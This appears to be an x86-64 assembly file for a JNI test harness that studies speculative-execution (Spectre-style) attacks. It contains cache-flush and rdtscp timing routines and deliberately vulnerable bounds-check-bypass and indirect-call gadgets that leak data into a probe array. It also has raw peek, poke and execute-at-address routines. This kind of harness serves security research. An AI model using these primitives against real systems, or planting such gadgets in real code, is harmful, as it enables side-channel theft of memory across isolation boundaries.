# What the harness of the attack on speculation runs as machine code of its own: a clock for caches, and two gadgets
# with the branch that such an attack needs. Each is called as JNI has it: rdi and rsi are JNI's, then rdx, rcx, r8, r9.
# The routines begin at multiples of 64. rebuild.sh makes cache-timer.bin.
  .intel_syntax noprefix
  .text

# flush(address, count, stride): puts lines out of all caches.
  .balign 64, 0xcc
1:
  clflush [rdx]
  add rdx, r8
  dec rcx
  jnz 1b
  mfence
  ret

# time(address): how long a load takes, in ticks of the processor's clock.
  .balign 64, 0xcc
  mov r8, rdx
  mfence
  lfence
  rdtscp
  shl rdx, 32
  or rax, rdx
  mov r9, rax
  lfence
  movzx ecx, byte ptr [r8]
  rdtscp
  lfence
  shl rdx, 32
  or rax, rdx
  sub rax, r9
  ret

# load(array, limit, index, probe): if (index < *limit) touch(probe + array[index] * 4096).
  .balign 64, 0xcc
  cmp r8, [rcx]
  jae 2f
  movzx eax, byte ptr [rdx + r8]
  shl eax, 12
  movzx eax, byte ptr [r9 + rax]
2:
  ret

# call(table, limit, index, probe): if (index < *limit) table[index](probe).
  .balign 64, 0xcc
  cmp r8, [rcx]
  jae 3f
  call [rdx + r8 * 8]
3:
  ret

# nothing(): what the table holds.
  .balign 64, 0xcc
  ret

# touch(probe): what the table does not hold: touch(probe + 77 * 4096).
  .balign 64, 0xcc
  movzx eax, byte ptr [r9 + 77 * 4096]
  ret

# peek(address)
  .balign 64, 0xcc
  mov rax, [rdx]
  ret

# poke(address, value)
  .balign 64, 0xcc
  mov [rdx], rcx
  ret

# enter(address): runs what stands there, up to its ret.
  .balign 64, 0xcc
  call rdx
  ret
